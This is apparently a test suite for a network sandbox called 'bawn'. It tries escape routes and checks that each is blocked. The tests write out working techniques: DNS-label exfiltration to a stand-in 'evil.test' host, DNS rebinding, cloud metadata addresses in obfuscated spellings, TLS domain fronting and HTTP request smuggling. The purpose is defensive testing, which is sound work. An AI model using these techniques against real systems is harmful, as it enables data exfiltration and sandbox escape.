"""Ways out that must not lead anywhere. Each shows first that it works without bawn, or with the host's network."""
import os
import signal
import time

import lab as labs
from processes import children_of, is_alive, name_of
from scratch import PATIENCE, until
from session import HELPERS, Host, sanitized_too

TESTS = []


def test(function):
    TESTS.append(function)
    return function


OPEN = ["net open"]
HOST_UNNAMED = "+unnamed"


def names_seen(session) -> set:
    return {event[1] for event in session.lab.take() if event[0] == "dns"}


@test
def data_does_not_leave_in_the_labels_of_names(session):
    code = """
attempt(lambda: socket.getaddrinfo("secret-one.evil.test", 443))
for server in sys.argv[1:]:
    server, seconds = server.split("=")
    query = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x0asecret-two\\x04evil\\x04test\\0\\0\\x10\\0\\x01"
    def udp():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(int(seconds)); s.sendto(query, (server, 53)); return s.recv(512)[3] & 15
    def tcp():
        s = socket.create_connection((server, 53), PATIENCE); s.sendall(len(query).to_bytes(2, "big") + query); return s.recv(512)[5] & 15
    print(attempt(udp), attempt(tcp))
"""
    run = lambda rules, *servers: session.run(rules, "/usr/bin/python3", "-c", HELPERS + code, *servers, timeout=60)
    assert run(OPEN, f"{labs.PUBLIC}={PATIENCE}").out == "3 3\n"
    assert names_seen(session) == {"secret-one.evil.test", "secret-two.evil.test"}
    done = run(["connect allowed.test"], f"198.18.0.1={PATIENCE}", f"{labs.PUBLIC}=1")
    assert done.out == "3 3\ntimeout ECONNREFUSED\n" or done.out == "3 3\ntimed out ECONNREFUSED\n", done
    assert session.lab.take() == []


@test
def a_name_that_changes_its_address_leads_to_what_was_checked(session):
    with Host("127.0.0.1", 9000) as host:
        assert session.outside('print(exchange("leads-home.test", 9000, b"x"))').out == "b'the host: x'\n" and host.came == 1
        done = session.python(["connect rebinds.test:9000"], """
print(exchange("rebinds.test", 9000, b"x"))
time.sleep(5.2)   # longer than an address is used again
print(attempt(lambda: exchange("rebinds.test", 9000, b"x")))""")
        assert done.out == "b'xthe end'\nECONNRESET\n" and host.came == 1, done
    assert "loopback" in session.events("refused")[0]["why"]


@test
@sanitized_too
def names_do_not_lead_to_this_machine_or_its_clouds_metadata(session):
    names = ("leads-home", "leads-host", "leads-metadata", "leads-mapped", "leads-nat64", "leads-zero")
    code = f"""print([attempt(lambda: exchange(name + ".test", 9000, b"x")) for name in {names}])"""
    with Host("0.0.0.0", 9000) as host:
        control = eval(session.outside(code).out)
        # Nobody translates NAT64 here; everything else is reached.
        assert control == [b"the host: x", b"the host: x", b"xthe end", b"the host: x", control[4], b"the host: x"], control
        session.lab.take()
        came = host.came
        done = session.python([f"connect {name}.test:9000" for name in names], code)
        assert done.out == str(["ECONNRESET"] * len(names)) + "\n" and host.came == came, done
    assert not [event for event in session.lab.take() if event[0] == "echo"]
    assert {event["host"] for event in session.events("refused")} == {name + ".test" for name in names}


@test
def a_name_leads_into_a_private_network_only_by_a_persons_own_exact_rule(session):
    code = """print(attempt(lambda: exchange("corp.test", 9000, b"x")))"""
    assert session.python(["connect *.test:9000"], code).out == "ECONNRESET\n"
    assert "private" in session.events("refused")[0]["why"]
    assert session.python(["connect corp.test:9000"], code).out == "b'xthe end'\n"
    profiles = session.home / ".config/bawn/profiles/net"
    profiles.mkdir(parents=True)
    (profiles / "corp.bawn").write_text("connect corp.test:9000\n")
    assert session.python(["use net/corp"], code).out == "ECONNRESET\n"


@test
def a_name_does_not_lead_to_an_address_that_a_rule_refuses(session):
    code = """print(attempt(lambda: exchange("corp.test", 9000, b"x")), attempt(lambda: exchange("both.test", 9000, b"x")))"""
    rules = ["connect corp.test:9000", "connect both.test:9000"]
    assert session.python(rules, code).out == "b'xthe end' b'xthe end'\n"
    session.lab.take()
    for refused in (f"{labs.PRIVATE}", "10.0.0.0/8", "10.0.0.0/8:9000"):
        assert session.python([*rules, f"refuse {refused}"], code).out == "ECONNRESET b'xthe end'\n", refused
    assert "a rule refuses" in session.events("refused")[-1]["why"]
    # One of its addresses is left, and a closer rule opens what a wider one refuses.
    session.lab.take()
    assert session.python([*rules, f"refuse {labs.PUBLIC6}", "refuse 10.0.0.0/8", f"connect {labs.PRIVATE}:9000"], code).out == "b'xthe end' b'xthe end'\n"
    assert labs.PUBLIC6 not in str(session.lab.take())


@test
def addresses_in_every_spelling_are_not_on_the_list(session):
    spellings = ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "::ffff:169.254.169.254",
                 "0.0.0.0", "0", "127.0.0.1", "[::ffff:7f00:1]", "64:ff9b::a9fe:a9fe"]
    code = f"""
for spelling in {spellings}:
    print(attempt(lambda: exchange(spelling.strip("[]"), 9000, b"x")))"""
    with Host("0.0.0.0", 9000) as host:
        control = session.outside(code).out.splitlines()
        assert control[:-1] == ["b'xthe end'"] * 5 + ["b'the host: x'"] * 4, control  # the last would need a translator
        session.lab.take()
        came = host.came
        done = session.python(["connect allowed.test:9000"], code)
        assert set(done.out.split()) <= {"ECONNREFUSED", "EAI-2", "EADDRNOTAVAIL"} and host.came == came, done
    assert session.lab.take() == []


@test
def TLS_for_another_host_is_reset(session):
    run = lambda rules, url, *more: session.run(rules, "curl", "-sS", "-k", "-m", str(PATIENCE), *more, url)
    fetch = lambda url, *more: run(["connect allowed.test"], url, *more)
    fronted = ("https://other.test/", "--connect-to", "other.test:443:allowed.test:443")
    assert fetch("https://allowed.test/").status == 0 and run(OPEN, *fronted).status == 0
    session.lab.take()
    assert fetch(*fronted).status == 35
    assert fetch("https://allowed.test/", "--resolve", f"allowed.test:443:{labs.PUBLIC}").status == 7
    assert session.lab.take() == []
    assert session.events("refused")[-1]["why"] == "its TLS is for another host"


@test
@sanitized_too
def TLS_without_a_name_and_other_words_on_443_are_reset(session):
    done = session.python(["connect allowed.test"], """
import ssl
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
print(attempt(lambda: context.wrap_socket(dial("allowed.test", 443))), attempt(lambda: exchange("allowed.test", 443, b"GET / HTTP/1.1\\r\\n\\r\\n")),
      attempt(lambda: exchange("allowed.test", 443, b"anything")))""")
    assert done.out == "ECONNRESET ECONNRESET ECONNRESET\n", done
    assert session.lab.take() == []


@test
@sanitized_too
def on_port_80_nothing_passes_but_HTTP(session):
    """Neither TLS with the right name, nor with none, nor ssh. The server at port 80 answers whatever comes with a 400."""
    code = """
import ssl
def hello(name):
    context, outgoing = ssl.create_default_context(), ssl.MemoryBIO()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try: context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError: return outgoing.read() + b"\\r\\n"
said = lambda first: attempt(lambda: exchange("allowed.test", 80, first))
for first in (hello("allowed.test"), hello(None), b"SSH-2.0-x\\r\\n"):
    got = said(first)
    print("400" if b"400" in got[:500] else got[-300:]) if type(got) is bytes else print(got)
print(said(b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n")[:12])"""
    assert session.outside(code).out == "400\n" * 3 + "b'HTTP/1.1 200'\n"
    session.lab.take()
    for rule in ("connect allowed.test:80", f"connect allowed.test:80{HOST_UNNAMED}"):
        done = session.python([rule], code)
        lines = done.out.splitlines()
        assert lines[:2] == ["ECONNRESET"] * 2 and "is not HTTP/1.1" in lines[2] and lines[3] == "b'HTTP/1.1 200'", done
    assert {event["why"] for event in session.events("refused")} == {"it does not begin with HTTP", "the request is not HTTP/1.1"}


@test
def TLS_without_a_name_passes_by_a_rule_that_says_so(session):
    code = """
import ssl
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
shake = lambda name: context.wrap_socket(dial("allowed.test", 443), server_hostname=name).version()
print(attempt(lambda: shake(None)), attempt(lambda: shake("allowed.test")), attempt(lambda: shake("other.test")))"""
    assert session.python(["connect allowed.test"], code).out == "ECONNRESET TLSv1.3 ECONNRESET\n"
    assert HOST_UNNAMED in session.events("refused")[0]["why"]
    assert session.python([f"connect allowed.test{HOST_UNNAMED}"], code).out == "TLSv1.3 TLSv1.3 ECONNRESET\n"
    done = session.run([f"refuse allowed.test{HOST_UNNAMED}"], "true")
    assert done.status != 0 and "only `connect` takes" in done.err, done


@test
@sanitized_too
def a_hello_cut_into_pieces_is_read_whole(session):
    done = session.python(["connect allowed.test"], """
import ssl
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
def shake(name, pieces):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try: tls.do_handshake()
    except ssl.SSLWantReadError: pass
    hello = outgoing.read()
    if pieces:   # many records, each in a segment of its own
        body = hello[5:]
        parts = [b"\\x16\\x03\\x01" + len(body[i:i+40]).to_bytes(2, "big") + body[i:i+40] for i in range(0, len(body), 40)]
    else:
        parts = [hello]
    s = dial("allowed.test", 443)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for part in parts:
        s.sendall(part); time.sleep(0.002)
    return s.recv(5)[:1]
print(attempt(lambda: shake("allowed.test", False)), attempt(lambda: shake("allowed.test", True)),
      attempt(lambda: shake("other.test", True)))""")
    assert done.out == "b'\\x16' b'\\x16' ECONNRESET\n", done


@test
@sanitized_too
def plain_HTTP_for_another_host_gets_a_403_that_says_why(session):
    rules = ["connect allowed.test:80"]
    fine = session.run(rules, "curl", "-sS", "-m", str(PATIENCE), "http://allowed.test/a", "http://allowed.test/b")
    assert fine.status == 0 and fine.out.count("hello") == 2, fine
    session.lab.take()
    done = session.run(rules, "curl", "-sS", "-m", str(PATIENCE), "-w", "%{http_code}", "-H", "Host: other.test", "http://allowed.test/")
    assert "bawn: this sandbox may not reach allowed.test: the request is for another host" in done.out and "403" in done.out, done
    assert "`bawn ask connect HOST` asks for another host." in done.out and "bawn why" not in done.out, done
    done = session.python(rules, """
two = b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET /second HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n"
print(attempt(lambda: exchange("allowed.test", 80, two))[-200:])""")
    assert "/second" not in str(session.lab.take()), done
    done = session.run(["connect allowed.test:9000"], "curl", "-sS", "-m", str(PATIENCE), "-H", "Host: other.test", "http://allowed.test:9000/")
    assert "for another host" in done.out, done


@test
@sanitized_too
def a_request_is_found_whatever_stands_before_it(session):
    """Servers skip empty lines before a request, and take any word for a method."""
    requests = [b"\r\nGET /hidden HTTP/1.1\r\n", b"PROPFIND /hidden HTTP/1.1\r\n", b"SSH-2.0-x /hidden HTTP/1.1\r\n", b"get /hidden http/1.1\r\n"]
    code = f"""
for port in (80, 9000):
    for request in {requests}:
        with dial("allowed.test", port) as s:
            for byte in request + b"Host: other.test\\r\\n\\r\\n":
                attempt(lambda: s.send(bytes([byte])))
            attempt(lambda: s.shutdown(socket.SHUT_WR))
            got = b""
            while part := attempt(lambda: s.recv(4096)):
                if type(part) is str: break
                got += part
            print(b"bawn: " in got or not got, b"Host" in got)"""
    control = session.outside(code.replace("(80, 9000)", "(9000,)")).out
    assert control == "False True\n" * 4, control
    session.lab.take()
    done = session.python(["connect allowed.test:80", "connect allowed.test:9000"], code)
    assert done.out.split().count("True") == 8 and done.out.count("False\n") == 8, done
    assert "hidden" not in str(session.lab.take())


@test
def an_allowed_host_is_no_proxy(session):
    ask = ("curl", "-sS", "-m", str(PATIENCE), "-k", "-p", "-x", "http://allowed.test:3128", "https://other.test/")
    assert session.run(OPEN, *ask).out == f"hello from {labs.PUBLIC} for other.test\n"
    session.lab.take()
    done = session.run(["connect allowed.test:3128"], *ask)
    assert done.status == 56 and "403" in done.err, done
    assert not [event for event in session.lab.take() if event[0] == "proxy"]
    assert "CONNECT" in session.events("refused")[-1]["why"]


@test
@sanitized_too
def a_change_of_protocol_hides_no_second_request(session):
    done = session.python(["connect allowed.test:80"], """
head = b"GET %s HTTP/1.1\\r\\nHost: allowed.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n\\r\\n"
with dial("allowed.test", 80) as s:
    s.sendall(head % b"/ws")
    print(s.recv(4096)[:12])
    s.sendall(b"raw bytes")
    print(s.recv(100))
with dial("allowed.test", 80) as s:
    s.sendall(head % b"/refuse")
    got = b""
    while not got.endswith(b"allowed.test\\n"):
        got += s.recv(4096)
    print(got[:12])
    s.sendall(b"GET /fronted HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n")
    print(s.recv(4096)[:12])
with dial("allowed.test", 80) as s:
    s.sendall(head % b"/ws" + b"GET /early HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n")
    print(s.recv(4096)[:12])""")
    assert done.out.splitlines()[:2] == ["b'HTTP/1.1 101'", "b'raw bytes'"], done
    assert done.out.splitlines()[2:] == ["b'HTTP/1.1 200'", "b'HTTP/1.1 403'", "b'HTTP/1.1 403'"], done
    seen = str(session.lab.take())
    assert "fronted" not in seen and "early" not in seen


@test
@sanitized_too
def content_of_a_change_of_protocol_that_is_refused_hides_no_request(session):
    """The server counts the content, and takes for its end what was meant to be another request's."""
    code = """
hidden = b"GET /hidden HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n"
second = b"POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(hidden)
with dial("allowed.test", 80) as s:
    s.sendall(b"PUT / HTTP/1.1\\r\\nHost: allowed.test\\r\\nUpgrade: websocket\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(second))
    print(s.recv(4096)[:12])
    attempt(lambda: s.sendall(second + hidden))
    attempt(lambda: s.recv(4096))"""
    assert session.python(OPEN, code).out == "b'HTTP/1.1 200'\n"
    assert "/hidden" in str(session.lab.take())
    assert session.python(["connect allowed.test:80"], code).out == "b'HTTP/1.1 403'\n"
    assert "PUT" not in str(session.lab.take())


@test
@sanitized_too
def requests_that_only_some_servers_take_for_one_do_not_pass(session):
    """A line of any length, HTTP/0.9 with the host in it, other blanks; and TLS after a warning."""
    starts = [b"GET /" + b"a" * 70000 + b" HTTP/1.1\r\nHost: other.test\r\n\r\n", b"GET http://other.test/\r\n",
              b"GET\x0b/\x0bHTTP/1.1\r\nHost: other.test\r\n\r\n", b"\x15\x03\x01\0\x02\x01\x5a\x16\x03\x01 other.test"]
    code = f"""
for start in {starts}:
    got = attempt(lambda: exchange("allowed.test", 9000, start))
    print(type(got) is bytes and got.endswith(b"the end"))"""
    assert session.outside(code).out == "True\n" * len(starts)
    assert session.python(["connect allowed.test:9000"], code).out == "False\n" * len(starts)
    assert len(session.events("refused")) == len(starts)


@test
def no_other_kind_of_socket_leads_out(session):
    code = """
import ctypes
make = lambda *kind: attempt(lambda: socket.socket(*kind))
print(make(socket.AF_PACKET, socket.SOCK_RAW, 3), make(socket.AF_VSOCK, socket.SOCK_STREAM), make(socket.AF_INET, socket.SOCK_RAW, 255),
      make(socket.AF_INET6, socket.SOCK_RAW, 58), make(socket.AF_INET, socket.SOCK_STREAM, 132), make(socket.AF_NETLINK, socket.SOCK_RAW, 12))
# a route away from the loopback, an address, another namespace
def route():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    message = struct.pack("IHHII", 28, 24, 0x405, 1, 0) + struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0)
    s.send(message)
    return errno.errorcode[-struct.unpack("i", s.recv(4096)[16:20])[0]]
libc = ctypes.CDLL(None, use_errno=True)
unshare = lambda: errno.errorcode[ctypes.get_errno()] if libc.unshare(0x40000000) else "fine"
print(attempt(route), unshare())"""
    control = session.outside(code.replace("socket.socket(*kind)", "bool(socket.socket(*kind))"), ["unshare", "--net"]).out.split()
    # Not every kernel has vsock and SCTP.
    assert [control[i] for i in (0, 2, 3, 5, 7)] == ["True"] * 4 + ["fine"] and control[6] != "EPERM", control
    done = session.python(["connect allowed.test"], code)
    assert done.out == ("EAFNOSUPPORT EAFNOSUPPORT EPERM EPERM EPROTONOSUPPORT EPROTONOSUPPORT\nEPERM EPERM\n"), done


@test
def ping_is_refused(session):
    code = f"""
def ping(kind):
    s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP); s.settimeout(PATIENCE)
    head = struct.pack("!BBHHH", 8, 0, 0, 7, 1)
    s.sendto(struct.pack("!BBHHH", 8, 0, 0xffff - sum(struct.unpack("!4H", head)) & 0xffff, 7, 1), ("{labs.PUBLIC}", 0))
    return len(s.recv(200)) > 0
print(attempt(lambda: ping(socket.SOCK_RAW)), attempt(lambda: ping(socket.SOCK_DGRAM)))"""
    assert session.outside(code).out.split()[0] == "True"
    assert session.python(["connect allowed.test"], code).out == "EPERM EACCES\n"


@test
def UDP_leads_nowhere(session):
    code = f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(PATIENCE)
query = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x03out\\x04test\\0\\0\\x01\\0\\x01"
s.connect(("{labs.PUBLIC}", 53)); s.send(query)
print(type(attempt(lambda: s.recv(512))) is bytes)"""
    assert session.python(OPEN, code).out == "True\n" and names_seen(session) == {"out.test"}
    assert session.python([f"connect {labs.PUBLIC}:53", "connect allowed.test"], code.replace("PATIENCE", "2")).out == "False\n"
    assert session.lab.take() == []


@test
@sanitized_too
def garbage_at_every_parser_does_no_harm(session):
    done = session.python(["connect allowed.test", "connect allowed.test:80", "connect allowed.test:9000"], """
import random
random.seed(7)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(2000):
    s.sendto(random.randbytes(random.randrange(0, 600)), ("198.18.0.1", 53))
def throw(host, port, data):
    with socket.create_connection((host, port), 5) as c:
        c.sendall(data)
        c.settimeout(0.05)
        try: c.recv(100)
        except OSError: pass
for i in range(40):
    attempt(lambda: throw("198.18.0.1", 53, random.randbytes(300)))
    attempt(lambda: throw("allowed.test", 443, b"\\x16\\x03\\x01" + random.randbytes(300)))
    attempt(lambda: throw("allowed.test", 80, b"GET / HTTP/1.1\\r\\n" + random.randbytes(300)))
print(exchange("allowed.test", 9000, b"still there"))""", timeout=60)
    assert done.out == "b'still therethe end'\n", done
    assert session.events("helper-died") == []


@test
@sanitized_too
def who_asks_for_names_and_says_nothing_keeps_nobody_out(session):
    done = session.python(["connect allowed.test:9000"], """
held = [dial("198.18.0.1", 53) for i in range(200)]
query = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7allowed\\4test\\0\\0\\1\\0\\1"
with dial("198.18.0.1", 53) as s:
    s.sendall(len(query).to_bytes(2, "big") + query)
    print(socket.inet_ntoa(s.recv(512)[-4:]))""")
    assert done.out == "198.18.0.2\n", done


FLOOD = """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(PATIENCE)
def ask(name):
    s.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\\0\\0\\1\\0\\1",
             ("198.18.0.1", 53))
    return s.recv(512)[3] & 15
codes = [ask(f"n{i}.example.test") for i in range(NAMES)]
print(codes[0], codes[-1], exchange("allowed.test", 9000, b"x"))
"""


@test
def names_below_a_wildcard_do_not_keep_out_those_that_a_rule_spells_out(session):
    done = session.python(["connect *.example.test:9000", "connect allowed.test:9000"], FLOOD.replace("NAMES", "4200"), timeout=60)
    assert done.out == "0 2 b'xthe end'\n", done  # 2: the server failed


@test
def questions_for_thousands_of_names_do_not_keep_connections_out_of_the_journal(session):
    done = session.python(["connect allowed.test:9000"], FLOOD.replace("NAMES", "4200").replace("example.test", "unlisted.test"), timeout=60)
    assert done.out == "3 3 b'xthe end'\n", done
    assert [event["host"] for kind in ("connected", "closed") for event in session.events(kind)] == ["allowed.test"] * 2
    assert "too many names" in session.events("network-trouble")[0]["why"]


@test
@sanitized_too
def with_few_descriptors_names_fail_and_connections_go_on(session):
    process = session.start(["connect *.example.test:9000", "connect allowed.test:9000"], "/usr/bin/python3", "-c",
                            HELPERS + 'print(exchange("allowed.test", 9000, b"x"))\n' + FLOOD.replace("NAMES", "300"), prefix=["prlimit", "--nofile=200:200"])
    out, err = process.communicate(timeout=60)
    assert out == "b'xthe end'\n0 2 b'xthe end'\n", out + err
    assert "no sockets are left" in session.events("network-trouble")[0]["why"] and session.events("helper-died") == []


def helpers_of(pid) -> list:
    """The processes named bawn-egress that this bawn started."""
    return [child for child in children_of(pid) if name_of(child) == "bawn-egress"]


def processor_ticks(pid) -> int:
    return sum(map(int, open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[11:13]))


@test
def without_descriptors_left_the_helper_waits_and_does_not_spin(session):
    process = session.start(["connect allowed.test:9000"], "/usr/bin/python3", "-u", "-c", HELPERS + """
held = [dial("allowed.test", 9000)]
held += [attempt(lambda: socket.create_connection(("198.18.0.2", 9000), 0.2)) for i in range(150)]
held += [attempt(lambda: socket.create_connection(("198.18.0.1", 53), 0.2)) for i in range(80)]
print("held", flush=True)
sys.stdin.read()""", prefix=["prlimit", "--nofile=200:200"])
    assert process.stdout.readline() == "held\n"
    (helper,) = helpers_of(process.pid)
    end, before, is_quiet = time.monotonic() + PATIENCE, -100, False
    while not is_quiet and time.monotonic() < end:
        now = processor_ticks(helper)
        is_quiet, before = now - before <= 2, now
        time.sleep(0.5)
    process.stdin.close()
    process.wait(timeout=60)
    assert is_quiet


CHATTER = """
held = dial("allowed.test", 9000)
held.sendall(b"x")
held.recv(1)
print(exchange("allowed.test", 9000, b"one"), flush=True)
for line in sys.stdin:
    held.settimeout(PATIENCE)
    print(attempt(lambda: held.recv(10)), attempt(lambda: exchange("198.18.0.2", 9000, b"two")), attempt(lambda: exchange("allowed.test", 9000, b"three")),
          socket.gethostbyname("allowed.test"), flush=True)
"""


def chat(session):
    process = session.start(["connect allowed.test:9000"], "/usr/bin/python3", "-u", "-c", HELPERS + CHATTER)
    assert process.stdout.readline() == "b'onethe end'\n"
    (helper,) = helpers_of(process.pid)
    return process, helper


@test
@sanitized_too
def when_the_helper_dies_connections_break_and_the_next_one_is_served_by_another(session):
    process, helper = chat(session)
    os.kill(helper, signal.SIGKILL)
    until(lambda: session.events("helper-died"), "the helper's death is noticed")
    process.stdin.write("go\n")
    process.stdin.flush()
    assert process.stdout.readline() == "b'' ECONNREFUSED b'threethe end' 198.18.0.2\n"
    process.stdin.close()
    process.wait(timeout=60)
    assert [event["status"] for event in session.events("helper-died")] == ["137"]
    assert len(session.events("helper-started")) == 2
    assert process.returncode == 0


@test
def a_helper_that_dies_again_and_again_is_given_up_and_nothing_is_reached(session):
    process = session.start(["connect allowed.test:9000"], "/usr/bin/python3", "-u", "-c", HELPERS + """
for line in sys.stdin:
    print(attempt(lambda: exchange("allowed.test", 9000, b"x")), flush=True)""")

    def ask():
        process.stdin.write("go\n")
        process.stdin.flush()
        return process.stdout.readline().strip()

    for deaths in range(1, 33):
        assert ask() == "b'xthe end'"
        (helper,) = helpers_of(process.pid)
        os.kill(helper, signal.SIGKILL)
        until(lambda: len(session.events("helper-died")) == deaths, "the helper's death is noticed")
    assert ask() == "EAI-3" and helpers_of(process.pid) == []
    assert "keeps crashing" in session.events("network-trouble")[-1]["why"]
    process.stdin.close()
    assert process.wait(timeout=60) == 0


@test
def the_helper_ends_with_the_run_and_with_a_killed_bawn(session):
    process, helper = chat(session)
    process.stdin.close()
    process.wait(timeout=60)
    assert not is_alive(helper)
    process, helper = chat(session)
    process.kill()
    process.wait()
    until(lambda: not is_alive(helper), "the helper ends")


@test
def a_helper_that_is_slow_at_the_end_still_tells_of_its_connections(session):
    process, helper = chat(session)
    os.kill(helper, signal.SIGSTOP)
    process.stdin.close()
    time.sleep(2)  # in which the command ends, and bawn waits for the helper
    os.kill(helper, signal.SIGCONT)
    assert process.wait(timeout=60) == 0
    assert len(session.events("closed")) == 2, session.journal()  # the one that was held, and the one before


@test
@sanitized_too
def the_helper_itself_is_locked_in(session):
    process, helper = chat(session)
    status = dict(line.split(":\t", 1) for line in open(f"/proc/{helper}/status").read().splitlines() if ":\t" in line)
    assert status["Seccomp"] == "2" and status["NoNewPrivs"] == "1", status
    # What it might get (CapBnd) does not matter to who is not root and gains no new privileges.
    assert {status[name] for name in ("CapInh", "CapPrm", "CapEff", "CapAmb")} == {"0" * 16}, status
    assert [os.readlink(f"/proc/{helper}/fd/{fd}") for fd in range(3)] == ["/dev/null"] * 3
    # Root's helper is not root: it could read what only root may.
    real_root = os.geteuid() == 0 and open("/proc/self/uid_map").read().split() == ["0", "0", "4294967295"]
    assert ("0" in status["Uid"].split()) == (not real_root), status
    environment = open(f"/proc/{helper}/environ").read()
    assert "HOME" not in environment
    process.stdin.close()
    process.wait(timeout=60)
